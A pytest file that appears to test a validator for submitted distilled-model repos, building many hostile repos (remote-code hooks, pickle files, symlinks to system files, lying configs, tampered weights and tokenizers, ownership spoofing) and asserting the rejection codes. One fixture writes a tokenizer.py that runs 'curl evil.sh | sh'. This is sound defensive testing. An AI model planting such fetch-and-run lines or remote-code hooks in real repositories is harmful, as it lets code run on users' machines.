"""The hostile-repo corpus: each attack a pre-check can stop, built by hand, run through
`distil-check` (in-process `main`, --json), with the exact rejection code asserted.

The valid tiny student passes every check; a re-sharded copy of it passes too and has the
same content hash.
"""

from __future__ import annotations

import json
import math
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import torch

from conftest import ROOT
from distil import tiny
from model_builders import (
    WEIGHTS,
    clone,
    edit_json,
    header_of,
    hostile_tokenizer_json,
    raw_safetensors,
    replace_file,
    reshard,
    rewrite_weights,
    save_tensors,
    tensors,
    tiny_gpt2_config,
)
from distil.checks import CheckLimits, DuplicateRegistry, check_commitment
from distil.checks.cli import main as distil_check
from distil.hub import LocalModelStore
from distil.commitment import Commitment

MLP = ("mlp.gate_proj.weight", "mlp.up_proj.weight", "mlp.down_proj.weight")


def run_check(capsys, path: Path, teacher_dir: Path, *extra: str) -> tuple[int, dict]:
    rc = distil_check([str(path), "--teacher", str(teacher_dir), "--json", *extra])
    out = capsys.readouterr().out
    return rc, json.loads(out.strip().splitlines()[-1])


# -- builders: (valid model dir, destination dir) -> extra CLI args ----------------------


def tokenizer_py_remote_code(v: Path, d: Path):
    clone(v, d)
    (d / "tokenizer.py").write_text("import os\nos.system('curl evil.sh | sh')\n")
    edit_json(d / "tokenizer_config.json", lambda c: c.update(auto_map={"AutoTokenizer": ["tokenizer.Evil", None]}))


def auto_map_in_config(v: Path, d: Path):
    clone(v, d)
    edit_json(d / "config.json", lambda c: c.update(auto_map={"AutoModelForCausalLM": "modeling_evil.EvilLM"}))


def auto_map_in_tokenizer_config(v: Path, d: Path):
    clone(v, d)
    edit_json(d / "tokenizer_config.json", lambda c: c.update(auto_map={"AutoTokenizer": ["tok.Evil", None]}))


def bin_beside_decoy_safetensors(v: Path, d: Path):
    clone(v, d)
    torch.save({"model.embed_tokens.weight": torch.zeros(4, 4)}, d / "pytorch_model.bin")


def forbidden(name: str, data: bytes = b"\0" * 64):
    def build(v: Path, d: Path):
        clone(v, d)
        (d / name).parent.mkdir(parents=True, exist_ok=True)
        (d / name).write_bytes(data)

    build.__name__ = f"forbidden_{name}"
    return build


def symlink_out_of_repo(v: Path, d: Path):
    clone(v, d, skip=("tokenizer.json",))
    outside = d.parent / f"{d.name}-outside.json"
    outside.write_bytes((v / "tokenizer.json").read_bytes())
    (d / "tokenizer.json").symlink_to(outside)


def symlink_to_system_file(v: Path, d: Path):
    clone(v, d)
    (d / "README.md").symlink_to("/etc/hostname")


def dangling_symlink(v: Path, d: Path):
    clone(v, d)
    (d / "LICENSE").symlink_to(d / "no-such-file")


def config_lies_about_vocab(v: Path, d: Path):
    clone(v, d)
    edit_json(d / "config.json", lambda c: c.update(vocab_size=151_936))


def text_config_vocab_disagrees(v: Path, d: Path):
    clone(v, d)
    edit_json(d / "config.json", lambda c: c.update(text_config={"vocab_size": 151_936}))


def embedding_disagrees_with_config(v: Path, d: Path):
    def cut(state):
        for name in ("model.embed_tokens.weight", "lm_head.weight"):
            state[name] = state[name][:151_936].clone()
        return state

    rewrite_weights(v, d, cut)


def config_lies_about_size(v: Path, d: Path):
    """MLPs 32× wider than config.json's intermediate_size says: counted from the headers."""

    def widen(state):
        for name in list(state):
            if name.endswith(MLP):
                shape = (64, 4096) if name.endswith("down_proj.weight") else (4096, 64)
                state[name] = torch.randn(shape).to(torch.bfloat16)
        return state

    rewrite_weights(v, d, widen)
    return ["--max-params", "32_500_000"]


def too_many_params(v: Path, d: Path):
    clone(v, d)
    return ["--max-params", "30_000_000"]


def int8_without_quantization_config(v: Path, d: Path):
    def quantise(state):
        for name in list(state):
            if name.endswith(MLP):
                w = state[name].float()
                scale = w.abs().amax(dim=1).clamp(min=1e-8)
                state[name] = torch.round(w / scale[:, None] * 127).to(torch.int8)
                state[name[: -len("weight")] + "SCB"] = scale
        return state

    rewrite_weights(v, d, quantise)


def int8_plain_names(v: Path, d: Path):
    def quantise(state):
        for name in list(state):
            if name.endswith(MLP):
                state[name] = torch.zeros(state[name].shape, dtype=torch.int8)
        return state

    rewrite_weights(v, d, quantise)


def gptq_tensors(v: Path, d: Path):
    def quantise(state):
        for name in list(state):
            if name.endswith(MLP):
                base = name[: -len("weight")]
                rows, cols = state.pop(name).shape
                state[base + "qweight"] = torch.zeros((cols // 8, rows), dtype=torch.int32)
                state[base + "qzeros"] = torch.zeros((1, rows // 8), dtype=torch.int32)
                state[base + "scales"] = torch.ones((1, rows), dtype=torch.bfloat16)
        return state

    rewrite_weights(v, d, quantise)


def bnb_4bit_tensors(v: Path, d: Path):
    def quantise(state):
        for name in list(state):
            if name.endswith(MLP):
                n = state[name].numel()
                state[name] = torch.zeros((n // 2, 1), dtype=torch.uint8)
                state[name + ".absmax"] = torch.ones(n // 64, dtype=torch.float32)
                state[name + ".quant_state.bitsandbytes__nf4"] = torch.zeros(16, dtype=torch.uint8)
        return state

    rewrite_weights(v, d, quantise)


def quantization_config_entry(v: Path, d: Path):
    clone(v, d)
    edit_json(d / "config.json", lambda c: c.update(quantization_config={"quant_method": "bitsandbytes", "load_in_4bit": True}))


def f32_tensors(v: Path, d: Path):
    rewrite_weights(v, d, lambda s: {k: t.float() for k, t in s.items()})


def header_claims_gigabytes(v: Path, d: Path):
    clone(v, d, skip=(WEIGHTS,))
    (d / WEIGHTS).write_bytes(raw_safetensors(b'{"a":{"dtype":"BF16","shape":[2],"data_offsets":[0,4]}}', b"\0" * 4, length=5_000_000_000))


def duplicated_tensor_names(v: Path, d: Path):
    clone(v, d, skip=(WEIGHTS,))
    entry = '{"dtype":"BF16","shape":[2],"data_offsets":[0,4]}'
    (d / WEIGHTS).write_bytes(raw_safetensors(f'{{"model.norm.weight":{entry},"model.norm.weight":{entry}}}'.encode(), b"\0" * 4))


def duplicated_tensor_across_shards(v: Path, d: Path):
    reshard(v, d, shards=2)
    first = d / "model-00001-of-00002.safetensors"
    second = d / "model-00002-of-00002.safetensors"
    from safetensors.torch import load_file

    a, b = load_file(str(first)), load_file(str(second))
    name = sorted(b)[0]
    a[name] = b[name]
    save_tensors(first, a)


def nan_filled_weights(v: Path, d: Path):
    def poison(state):
        state["model.layers.0.mlp.up_proj.weight"] = torch.full_like(state["model.layers.0.mlp.up_proj.weight"], math.nan)
        return state

    rewrite_weights(v, d, poison)


def one_infinite_weight(v: Path, d: Path):
    def poison(state):
        state["model.norm.weight"][3] = math.inf
        return state

    rewrite_weights(v, d, poison)


def trailing_bytes_after_tensors(v: Path, d: Path):
    clone(v, d, skip=(WEIGHTS,))
    (d / WEIGHTS).write_bytes((v / WEIGHTS).read_bytes() + b"teacher weights hidden here")


def hole_between_tensors(v: Path, d: Path):
    clone(v, d, skip=(WEIGHTS,))
    header = {
        "a": {"dtype": "BF16", "shape": [2], "data_offsets": [0, 4]},
        "b": {"dtype": "BF16", "shape": [2], "data_offsets": [8, 12]},
    }
    (d / WEIGHTS).write_bytes(raw_safetensors(header, b"\0" * 12))


def header_shape_lies(v: Path, d: Path):
    header, data = header_of(v / WEIGHTS)
    header["model.norm.weight"]["shape"] = [1_000_000]
    clone(v, d, skip=(WEIGHTS,))
    (d / WEIGHTS).write_bytes(raw_safetensors(header, data))


def different_tokenizer(v: Path, d: Path):
    clone(v, d)
    replace_file(d / "tokenizer.json", hostile_tokenizer_json((v / "tokenizer.json").read_text()))


def broken_tokenizer(v: Path, d: Path):
    clone(v, d)
    replace_file(d / "tokenizer.json", "{not json")


def tokenizer_json_not_a_tokenizer(v: Path, d: Path):
    clone(v, d)
    replace_file(d / "tokenizer.json", '{"version": "1.0", "model": {"type": "NoSuchModel"}}')


def added_tokens_that_do_not_load(v: Path, d: Path):
    """The teacher's pipeline, but an added token without its id: the tokenizers library
    refuses the file."""
    clone(v, d)
    data = json.loads((v / "tokenizer.json").read_text())
    data["added_tokens"][0].pop("id")
    replace_file(d / "tokenizer.json", json.dumps(data))


def special_token_eats_the_newline(v: Path, d: Path):
    """The teacher's pipeline, vocabulary and merges, but <|im_end|> strips the whitespace on its
    right (an added-token flag, which an honest re-save may change and is not compared):
    only the battery's chat-template string sees it."""
    clone(v, d)
    data = json.loads((v / "tokenizer.json").read_text())
    for token in data["added_tokens"]:
        if token["content"] == "<|im_end|>":
            token["rstrip"] = True
    replace_file(d / "tokenizer.json", json.dumps(data))


def missing_tensor(v: Path, d: Path):
    rewrite_weights(v, d, lambda s: {k: t for k, t in s.items() if k != "model.norm.weight"})


def unexpected_tensor(v: Path, d: Path):
    rewrite_weights(v, d, lambda s: {**s, "model.extra_head.weight": torch.zeros(8, 64, dtype=torch.bfloat16)})


def vision_tensors_ride_along(v: Path, d: Path):
    """transformers skips model.visual.* silently for Qwen3.5: data that is never scored."""
    rewrite_weights(v, d, lambda s: {**s, "model.visual.blocks.0.mlp.weight": torch.zeros(64, 64, dtype=torch.bfloat16)})


def mtp_tensors_ride_along(v: Path, d: Path):
    rewrite_weights(v, d, lambda s: {**s, "mtp.fc.weight": torch.zeros(64, 128, dtype=torch.bfloat16)})


def multimodal_wrapper_config(v: Path, d: Path):
    """The review's reproduction: the multimodal model_type makes transformers build the 35B text model."""
    clone(v, d)
    edit_json(d / "config.json", lambda c: c.update(model_type="qwen3_5_moe"))


def config_asks_for_48_layers(v: Path, d: Path):
    clone(v, d)
    edit_json(d / "config.json", lambda c: c.update(num_hidden_layers=48, layer_types=c["layer_types"] * 24))


def config_asks_for_12_layers(v: Path, d: Path):
    clone(v, d)
    edit_json(d / "config.json", lambda c: c.update(num_hidden_layers=12, layer_types=c["layer_types"] * 6))


def config_wider_than_weights(v: Path, d: Path):
    clone(v, d)
    edit_json(d / "config.json", lambda c: c.update(intermediate_size=256))


def different_normalizer(v: Path, d: Path):
    """Same vocabulary and merges, another normaliser (NFD): the file is not the teacher's."""
    clone(v, d)
    data = json.loads((v / "tokenizer.json").read_text())
    data["normalizer"] = {"type": "NFD"}
    replace_file(d / "tokenizer.json", json.dumps(data))


def unknown_model_type(v: Path, d: Path):
    clone(v, d)
    edit_json(d / "config.json", lambda c: c.update(model_type="evil_lm"))


def unknown_architecture_class(v: Path, d: Path):
    clone(v, d)
    edit_json(d / "config.json", lambda c: c.update(architectures=["EvilForCausalLM"]))


def config_breaks_loading(v: Path, d: Path):
    clone(v, d)
    edit_json(d / "config.json", lambda c: c.update(hidden_act="evil_act"))


def gpt2_with_16_positions(v: Path, d: Path):
    """A GPT-2 that reads 16 positions: every other check passes (the teacher's tokenizer and
    vocabulary, bf16, the right tensors), and scoring would raise IndexError at position 16."""
    tiny.save_model(d, tiny_gpt2_config(n_positions=16), seed=3)
    shutil.copyfile(v / "distil.json", d / "distil.json")


def context_shorter_than_the_window(v: Path, d: Path):
    """A rotary model would compute at any position; its config says it was not made to."""
    clone(v, d)
    edit_json(d / "config.json", lambda c: c.update(max_position_embeddings=1000))


def missing(name: str):
    def build(v: Path, d: Path):
        clone(v, d, skip=(name,))

    build.__name__ = f"missing_{name}"
    return build


def stray_shard_without_index(v: Path, d: Path):
    clone(v, d)
    save_tensors(d / "extra.safetensors", {"x": torch.zeros(4, dtype=torch.bfloat16)})


def decoy_beside_index(v: Path, d: Path):
    reshard(v, d, shards=2)
    save_tensors(d / WEIGHTS, {"model.embed_tokens.weight": torch.zeros(4, 4, dtype=torch.bfloat16)})


def config_not_json(v: Path, d: Path):
    clone(v, d)
    replace_file(d / "config.json", "{'vocab_size': 248320}")


# -- ownership (spec v3): distil.json names the committing hotkey --------------------------

COMMITTER = "5CommitterHotkeyOfTheCorpusTestsXXXXXXXXXXXXXXX"


def owner_file(text: str, committer: str | None = COMMITTER):
    def build(v: Path, d: Path):
        clone(v, d)
        replace_file(d / "distil.json", text)
        return ["--hotkey", committer] if committer else []

    build.__name__ = f"owner_file_{text[:24]}"
    return build


def someone_elses_repo(v: Path, d: Path):
    """The valid model as it is: its distil.json names VALID_OWNER, not the committer."""
    clone(v, d)
    return ["--hotkey", COMMITTER]


CASES = [
    (tokenizer_py_remote_code, "REMOTE_CODE"),
    (auto_map_in_config, "REMOTE_CODE"),
    (auto_map_in_tokenizer_config, "REMOTE_CODE"),
    (bin_beside_decoy_safetensors, "FORBIDDEN_FILE"),
    (forbidden("model.gguf"), "FORBIDDEN_FILE"),
    (forbidden("model.onnx"), "FORBIDDEN_FILE"),
    (forbidden("weights.pkl"), "FORBIDDEN_FILE"),
    (forbidden("embeddings.npy"), "FORBIDDEN_FILE"),
    (forbidden("model.pt"), "FORBIDDEN_FILE"),
    (forbidden("notes.txt"), "FORBIDDEN_FILE"),
    (forbidden("extra/config.json", b"{}"), "FORBIDDEN_FILE"),
    (symlink_out_of_repo, "SYMLINK"),
    (symlink_to_system_file, "SYMLINK"),
    (dangling_symlink, "SYMLINK"),
    (config_lies_about_vocab, "VOCAB_SIZE"),
    (text_config_vocab_disagrees, "VOCAB_SIZE"),
    (embedding_disagrees_with_config, "EMBEDDING_SHAPE"),
    (config_lies_about_size, "TOO_MANY_PARAMS"),
    (too_many_params, "TOO_MANY_PARAMS"),
    (int8_without_quantization_config, "QUANTIZED"),
    (int8_plain_names, "QUANTIZED"),
    (gptq_tensors, "QUANTIZED"),
    (bnb_4bit_tensors, "QUANTIZED"),
    (quantization_config_entry, "QUANTIZED"),
    (f32_tensors, "DTYPE"),
    (header_claims_gigabytes, "HEADER_INVALID"),
    (trailing_bytes_after_tensors, "HEADER_INVALID"),
    (hole_between_tensors, "HEADER_INVALID"),
    (header_shape_lies, "HEADER_INVALID"),
    (duplicated_tensor_names, "DUPLICATE_TENSOR"),
    (duplicated_tensor_across_shards, "DUPLICATE_TENSOR"),
    (nan_filled_weights, "NONFINITE"),
    (one_infinite_weight, "NONFINITE"),
    (different_tokenizer, "TOKENIZER_VOCAB"),
    (different_normalizer, "TOKENIZER_PIPELINE"),
    (special_token_eats_the_newline, "TOKENIZER_MISMATCH"),
    (broken_tokenizer, "MALFORMED_JSON"),
    (tokenizer_json_not_a_tokenizer, "TOKENIZER_PIPELINE"),
    (added_tokens_that_do_not_load, "TOKENIZER_INVALID"),
    (missing_tensor, "ARCH_MISSING_TENSORS"),
    (unexpected_tensor, "ARCH_UNUSED_TENSORS"),
    (vision_tensors_ride_along, "ARCH_UNUSED_TENSORS"),
    (mtp_tensors_ride_along, "ARCH_UNUSED_TENSORS"),
    (multimodal_wrapper_config, "ARCH_TOO_LARGE"),
    (config_asks_for_48_layers, "ARCH_TOO_LARGE"),  # 48 layers, 28 tensors: refused before the config is built
    (config_asks_for_12_layers, "ARCH_MISSING_TENSORS"),
    (config_wider_than_weights, "ARCH_SHAPE_MISMATCH"),
    (config_breaks_loading, "LOAD_FAILED"),
    (gpt2_with_16_positions, "ARCH_CONTEXT"),
    (context_shorter_than_the_window, "ARCH_CONTEXT"),
    (unknown_model_type, "ARCHITECTURE"),
    (unknown_architecture_class, "ARCHITECTURE"),
    (missing("tokenizer.json"), "MISSING_FILE"),
    (missing("config.json"), "MISSING_FILE"),
    (missing(WEIGHTS), "MISSING_FILE"),
    (stray_shard_without_index, "WEIGHT_INDEX"),
    (decoy_beside_index, "WEIGHT_INDEX"),
    (config_not_json, "MALFORMED_JSON"),
    (missing("distil.json"), "OWNER_MISSING"),
    (someone_elses_repo, "OWNER_MISMATCH"),
    (owner_file('{"owner": "%s"}' % COMMITTER), "OWNER_MISSING"),
    (owner_file('{"hotkey": 5}'), "OWNER_MISSING"),
    (owner_file('{"hotkey": "%s "}' % COMMITTER), "OWNER_MISSING"),
    (owner_file('{"hotkey": "%s"}' % COMMITTER.lower()), "OWNER_MISMATCH"),
    (owner_file("hotkey: %s" % COMMITTER), "MALFORMED_JSON"),
    (owner_file('["%s"]' % COMMITTER), "CONFIG_INVALID"),
    (owner_file('{"hotkey": "%s", "hotkey": "%s"}' % (COMMITTER, COMMITTER)), "MALFORMED_JSON"),
]


@pytest.mark.parametrize("build, code", CASES, ids=[b.__name__ for b, _ in CASES])
def test_hostile_repo_is_rejected_with_its_code(build, code, valid_model, teacher_dir, tmp_path, capsys):
    path = tmp_path / "model"
    extra = build(valid_model, path) or []
    rc, result = run_check(capsys, path, teacher_dir, *extra)
    assert (result["code"], result["reason"]) == (code, "INVALID"), result["detail"]
    assert rc == 1 and result["ok"] is False
    assert result["detail"]


def test_valid_model_passes_every_check(valid_model, teacher_reference):
    store = LocalModelStore()
    commitment = Commitment("alice/valid", store.add("alice/valid", valid_model))
    result = check_commitment(
        store, commitment, teacher=teacher_reference, owner_of=DuplicateRegistry().copy_lookup(_claim(commitment))
    )
    assert result.ok, result.detail
    assert [s.status for s in result.steps] == ["pass"] * len(result.steps)
    assert result.params == sum(t.numel() for t in tensors(valid_model).values())
    assert result.content_hash.startswith("sha256:") and len(result.content_hash) == 71
    assert result.files_hash.startswith("sha256:") and result.seen_public
    assert Path(result.local_path) == valid_model


def _claim(commitment, block=100, hotkey="5Hotkey"):
    from distil.checks import Claim

    return Claim(block, hotkey, str(commitment))


def test_valid_model_cli_report_and_json(valid_model, teacher_dir, capsys):
    rc, result = run_check(capsys, valid_model, teacher_dir)
    assert rc == 0
    assert set(result) == {"ok", "reason", "code", "detail", "params", "content_hash"}
    assert result["ok"] is True and result["reason"] is None and result["code"] is None
    assert distil_check([str(valid_model), "--teacher", str(teacher_dir)]) == 0
    report = capsys.readouterr().out
    for step in ("revision", "files", "config", "safetensors headers", "architecture", "content", "tokenizer", "load"):
        assert f"[pass] {step}" in report
    assert "result: VALID" in report


def test_ownership_file_naming_the_committer_passes_and_without_hotkey_is_reported(valid_model, teacher_dir,
                                                                                   tmp_path, capsys):
    from model_builders import VALID_OWNER, owned_by

    path = owned_by(valid_model, tmp_path / "mine", COMMITTER)
    assert json.loads((path / "distil.json").read_text()) == {"hotkey": COMMITTER}
    rc, result = run_check(capsys, path, teacher_dir, "--hotkey", COMMITTER)
    assert rc == 0 and result["ok"], result
    assert distil_check([str(valid_model), "--teacher", str(teacher_dir), "--hotkey", VALID_OWNER]) == 0
    assert f"[pass] owner                  distil.json names the committing hotkey {VALID_OWNER}" in capsys.readouterr().out
    # without --hotkey: the file must name one, and the report says which
    assert distil_check([str(path), "--teacher", str(teacher_dir)]) == 0
    report = capsys.readouterr().out
    assert f"distil.json names {COMMITTER}; validators count the commitment only from that hotkey" in report
    # a bad --hotkey is a usage error
    with pytest.raises(SystemExit) as exit_info:
        distil_check([str(path), "--teacher", str(teacher_dir), "--hotkey", "not a hotkey"])
    assert exit_info.value.code == 2 and "not a hotkey address" in capsys.readouterr().err


def test_ownership_is_checked_before_any_duplicate_and_skipped_for_an_exempt_commitment(valid_model, teacher_reference,
                                                                                       tmp_path):
    """A copied repo@rev string is INVALID before it can claim (or lose) a hash; a commitment
    from before the rule is not asked for the file."""
    store = LocalModelStore()
    commitment = Commitment("victim/model", store.add("victim/model", valid_model))
    first = check_commitment(store, commitment, teacher=teacher_reference)
    registry, _, _ = DuplicateRegistry().claim(first.files_hash, _claim(commitment, 100, "5Victim"))
    thief = check_commitment(store, commitment, teacher=teacher_reference, hotkey="5Thief",
                             owner_of=registry.copy_lookup(_claim(commitment, 99, "5Thief")))
    assert (thief.reason, thief.code, thief.copy_of) == ("INVALID", "OWNER_MISMATCH", None)
    assert "5Thief committed" in thief.detail and [s.status for s in thief.steps[3:]] == ["skip"] * (len(thief.steps) - 3)
    bare = clone(valid_model, tmp_path / "bare", skip=("distil.json",))
    old = Commitment("old/model", store.add("old/model", bare))
    exempt = check_commitment(store, old, teacher=teacher_reference, hotkey="5Old",
                              owner_exempt="committed at block 10, before the ownership rule (block 500)")
    steps = {s.name: s for s in exempt.steps}
    assert exempt.ok and steps["owner"].status == "skip" and "before the ownership rule" in steps["owner"].detail
    assert check_commitment(store, old, teacher=teacher_reference, hotkey="5Old").code == "OWNER_MISSING"


def test_the_same_cap_that_stops_the_lying_config_passes_the_honest_model(valid_model, teacher_dir, capsys):
    rc, result = run_check(capsys, valid_model, teacher_dir, "--max-params", "32_500_000")
    assert rc == 0 and result["params"] < 32_500_000


def test_resharded_copy_has_the_same_content_hash(valid_model, teacher_dir, teacher_reference, tmp_path, capsys):
    copy = reshard(valid_model, tmp_path / "resharded", shards=3)
    _, original = run_check(capsys, valid_model, teacher_dir)
    rc, resharded = run_check(capsys, copy, teacher_dir)
    assert rc == 0, resharded
    assert resharded["content_hash"] == original["content_hash"]
    assert resharded["params"] == original["params"]

    # The exact-file hashes differ (other files), so only the content hash catches it.
    store = LocalModelStore()
    first = Commitment("alice/original", store.add("alice/original", valid_model))
    second = Commitment("mallory/copy", store.add("mallory/copy", copy))
    a = check_commitment(store, first, teacher=teacher_reference)
    registry = DuplicateRegistry()
    registry, _, _ = registry.claim(a.files_hash, _claim(first, 100, "5Alice"))
    registry, _, _ = registry.claim(a.content_hash, _claim(first, 100, "5Alice"))
    b = check_commitment(store, second, teacher=teacher_reference, owner_of=registry.copy_lookup(_claim(second, 101, "5Mallory")))
    assert (b.reason, b.code, b.copy_of) == ("COPY", "DUPLICATE_CONTENT", str(first))
    assert b.files_hash != a.files_hash and b.content_hash == a.content_hash


def test_size_limits(valid_model, teacher_reference, tmp_path):
    path = clone(valid_model, tmp_path / "big-readme")
    (path / "README.md").write_bytes(b"x" * 4096)
    store = LocalModelStore()
    commitment = Commitment("alice/big", store.add("alice/big", path))
    result = check_commitment(store, commitment, CheckLimits(max_small_file_bytes=1024), teacher=teacher_reference)
    assert result.code == "FILE_SIZE" and "README.md" in result.detail
    result = check_commitment(store, commitment, CheckLimits(max_total_header_bytes=1000), teacher=teacher_reference)
    assert result.code == "HEADER_INVALID" and "add up to" in result.detail


def test_cli_subprocess_exit_codes(valid_model, teacher_dir, tmp_path):
    """The console entry point as a miner runs it: 0 valid, 1 rejected, 2 usage."""
    env = {"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin", "HF_HUB_DISABLE_TELEMETRY": "1", "HOME": str(tmp_path)}

    def run(*args):
        return subprocess.run(
            [sys.executable, "-m", "distil.checks.cli", *args], capture_output=True, text=True, env=env, timeout=300
        )

    ok = run(str(valid_model), "--teacher", str(teacher_dir), "--json")
    assert ok.returncode == 0, ok.stderr
    assert json.loads(ok.stdout)["ok"] is True

    bad = clone(valid_model, tmp_path / "bad")
    (bad / "modeling_evil.py").write_text("print('pwned')\n")
    rejected = run(str(bad), "--teacher", str(teacher_dir), "--json")
    assert rejected.returncode == 1
    assert json.loads(rejected.stdout)["code"] == "REMOTE_CODE"

    usage = run("alice/model@main", "--teacher", str(teacher_dir))
    assert usage.returncode == 2 and "not a commit sha" in usage.stderr
